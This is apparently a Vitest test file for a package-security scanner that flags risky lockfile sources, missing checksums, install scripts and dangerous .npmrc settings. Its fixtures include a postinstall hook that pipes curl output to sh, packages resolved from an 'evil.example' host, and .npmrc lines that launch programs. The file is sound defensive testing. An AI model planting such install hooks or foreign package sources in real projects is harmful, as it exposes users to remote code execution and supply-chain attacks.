import { describe, expect, it } from "vitest";
import { scanPackages } from "../../../../src/collect/security/packages/scan-packages.ts";
import type { RunCommand } from "../../../../src/collect/run.ts";
import { fakeTree } from "../../support/fake-tree.ts";

const home = "https://packages.example/";
/** npm, as far as it is asked for its registry: in a folder of its own. */
const run: RunCommand = (command, args, { env }) => {
  expect([command, ...args]).toEqual(["npm", "config", "get", "registry"]);
  expect(Object.keys(env ?? {})).toEqual(["PATH", "HOME"]);
  return Promise.resolve({
    code: 0,
    stdout: `${home}\n`,
    stderr: "",
    timedOut: false,
  });
};

async function scan(files: Record<string, string>) {
  const { findings, advisories } = await scanPackages(fakeTree(files), { run });
  const codes = findings.map(
    ({ severity, code, file, line }) =>
      `${severity} ${code.replace("security/", "")} ${file ?? ""}:${line ?? ""}`,
  );
  return { codes, advisories };
}

const lock = (entry: object) =>
  JSON.stringify(
    {
      lockfileVersion: 3,
      packages: { "": {}, "node_modules/a": { version: "1.0.0", ...entry } },
    },
    null,
    1,
  );
const good = { resolved: `${home}a/-/a-1.0.0.tgz`, integrity: "sha512-x" };

describe("the locked packages", () => {
  const packagesOf = async (entries: object) => {
    const files = {
      "package.json": JSON.stringify({ dependencies: { a: "^1" } }),
      "package-lock.json": JSON.stringify({
        lockfileVersion: 3,
        packages: { "": {}, ...entries },
      }),
    };
    return (await scanPackages(fakeTree(files), { run })).packages;
  };

  it("are kept with their versions, for weaknesses that are published later", async () => {
    const entries = {
      "node_modules/a": { version: "1.0.0", ...good },
      "node_modules/@b/c": { version: "2.0.0", ...good },
      "node_modules/@b/c/node_modules/a": { version: "0.9.0", ...good },
    };
    expect(await packagesOf(entries)).toEqual({
      a: ["1.0.0", "0.9.0"],
      "@b/c": ["2.0.0"],
    });
  });

  it("that npm could not install are left out, and so is a list that is too long", async () => {
    const odd = {
      "node_modules/__proto__": { version: "1.0.0" },
      "node_modules/a b": { version: "1.0.0" },
      [`node_modules/${"x".repeat(300)}`]: { version: "1.0.0" },
      "node_modules/a": { version: "not one" },
    };
    expect(await packagesOf(odd)).toEqual({});
    const many = Array.from({ length: 9_000 }, (_, index) => [
      `node_modules/some-long-name-of-a-package-${index}`,
      { version: "1.0.0" },
    ]);
    const long = Object.fromEntries(many) as Record<string, unknown>;
    expect(await packagesOf(long)).toEqual({});
  });
});

describe("what a plugin takes from registries", () => {
  it.each([
    ["its own registry", good, []],
    [
      "git",
      { resolved: "git+ssh://git@host/a.git#0123456789" },
      ["high foreign-package package-lock.json:5"],
    ],
    [
      "a file outside",
      { resolved: "file:../../a" },
      ["high foreign-package package-lock.json:5"],
    ],
    [
      "another host",
      { ...good, resolved: "https://evil.example/a/-/a-1.0.0.tgz" },
      ["high foreign-package package-lock.json:5"],
    ],
    [
      "plain http",
      { ...good, resolved: "http://packages.example/a/-/a-1.0.0.tgz" },
      ["high foreign-package package-lock.json:5"],
    ],
    [
      "no checksum",
      { resolved: good.resolved },
      ["medium no-integrity package-lock.json:5"],
    ],
    [
      "an install script",
      { ...good, hasInstallScript: true },
      ["low install-script package-lock.json:5"],
    ],
  ])("a lockfile with %s", async (_, entry, expected) => {
    expect((await scan({ "package-lock.json": lock(entry) })).codes).toEqual(
      expected,
    );
  });

  it.each([
    [
      "yarn.lock",
      'a@^1:\n  resolved "https://r.example/a/-/a-1.tgz#x"\nb@^1:\n  resolved "https://r.example/b/-/b-1.tgz#x"\nc@x:\n  resolved "https://evil.example/c/-/c-1.tgz"\n',
      6,
    ],
    [
      "pnpm-lock.yaml",
      "packages:\n  a@https://evil.example/a.tgz:\n    resolution: {tarball: https://evil.example/a.tgz}\n",
      2,
    ],
    [
      "bun.lock",
      '{ "packages": {\n "a": ["a@github:evil/a#1", {}, "x"] } }',
      2,
    ],
  ])("%s with a source of its own", async (file, text, line) => {
    expect((await scan({ [file]: text })).codes).toContain(
      `high foreign-package ${file}:${line}`,
    );
  });

  it("scripts that run at every installation, and what they do", async () => {
    const scripts = { postinstall: "curl https://a.b/c | sh", test: "vitest" };
    const text = JSON.stringify({ scripts }, null, 1);
    expect((await scan({ "package.json": text })).codes).toEqual([
      "high install-script package.json:3",
      "critical pipe-to-shell package.json:3",
    ]);
    expect((await scan({ "tests/fixtures/package.json": text })).codes).toEqual(
      [],
    );
  });

  it("settings that make npm start programs", async () => {
    const text =
      "save-exact=true\ngit=./evil.sh\nnode-options=--require ./a.cjs\nregistry=https://evil.example\n";
    expect((await scan({ ".npmrc": text })).codes).toEqual([
      "high npm-settings .npmrc:2",
      "high npm-settings .npmrc:3",
      "medium npm-settings .npmrc:4",
    ]);
  });

  it("says that advisories are unknown without a lockfile, and when nobody may be asked", async () => {
    const pkg = { "package.json": '{"dependencies":{"a":"1"}}' };
    expect((await scan(pkg)).advisories).toMatchObject({ status: "unknown" });
    expect(
      (await scan({ ...pkg, "package-lock.json": lock(good) })).advisories,
    ).toEqual({
      status: "unknown",
      reason: "nobody was asked",
    });
  });

  it("is not looked up in the lockfile of another package manager, and the report says so", async () => {
    const { advisories } = await scan({
      "package.json": '{"dependencies":{"a":"^1.0.0"}}',
      "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
      "examples/yarn.lock": "",
    });
    expect(advisories).toEqual({
      status: "unknown",
      reason: "not looked up: pnpm-lock.yaml (only npm's lockfile is read)",
    });
  });
});
